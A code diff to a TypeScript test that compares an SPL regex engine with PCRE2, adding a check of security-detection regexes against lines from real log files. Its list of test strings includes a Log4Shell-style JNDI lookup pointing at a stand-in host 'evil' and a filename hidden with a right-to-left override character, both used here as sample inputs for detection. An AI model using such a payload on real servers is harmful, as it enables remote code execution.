@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import { compileRegex } from '../../../src/spl/semantics/regex.ts';
@@ -8,6 +8,10 @@ import type { PcreMatch } from './pcre.ts';
 import { regexPattern, regexSubject } from './regex-arbitrary.ts';
 
 const CORPUS = join(import.meta.dirname, '../../../../shared/corpus/spl-examples/escu-regexes.json');
+const LOGS = join(import.meta.dirname, '../../../../shared/corpus/replay/logs');
+/** Of a log folder, so many files give a line; longer ones say no more and take the oracle long. */
+const FILES = 6;
+const LONGEST = 3000;
 
 const SUBJECTS = [
   'x',
@@ -22,6 +26,18 @@ const SUBJECTS = [
   'é😀\u202Egnp.exe',
   '${jndi:ldap://evil/a} %24%7Bjndi',
 ];
+
+/** Lines of real logs: from each folder a few files, of each the middle one. */
+function logLines(): readonly string[] {
+  return readdirSync(LOGS).flatMap((folder) =>
+    readdirSync(join(LOGS, folder))
+      .slice(0, FILES)
+      .map((file) => {
+        const lines = readFileSync(join(LOGS, folder, file), 'utf8').split('\n');
+        return (lines[lines.length >> 1] ?? '').slice(0, LONGEST);
+      }),
+  );
+}
 
 /** A match without the groups at the end that took no part: the oracle leaves those out. */
 function trimmed(index: number, groups: readonly (string | undefined)[]): unknown {
@@ -50,6 +66,26 @@ describe('regular expressions against PCRE2', () => {
       assert.ok(typeof expected !== 'string', pattern);
       for (const [i, subject] of SUBJECTS.entries()) {
         assert.deepEqual(ours(pattern, subject, true), theirs(expected[i], true), `${pattern} on ${JSON.stringify(subject)}`);
+      }
+    }
+  });
+
+  it('they find the same in lines of real logs', async function () {
+    if (!existsSync(CORPUS) || !existsSync(LOGS)) this.skip();
+    this.timeout(20_000);
+    const pcre = await startPcre();
+    const patterns: unknown = JSON.parse(readFileSync(CORPUS, 'utf8'));
+    assert.ok(Array.isArray(patterns));
+    const lines = logLines();
+    assert.ok(lines.length > 30);
+    for (const pattern of patterns.map(String)) {
+      const expected = pcreMatches(pcre, pattern, lines);
+      assert.ok(typeof expected !== 'string', pattern);
+      const regex = compileRegex(pattern);
+      for (const [i, line] of lines.entries()) {
+        const match = regex.exec(line);
+        const found = match === undefined ? undefined : trimmed(match.index, match);
+        assert.deepEqual(found, theirs(expected[i], true), `${pattern} on ${line}`);
       }
     }
   });
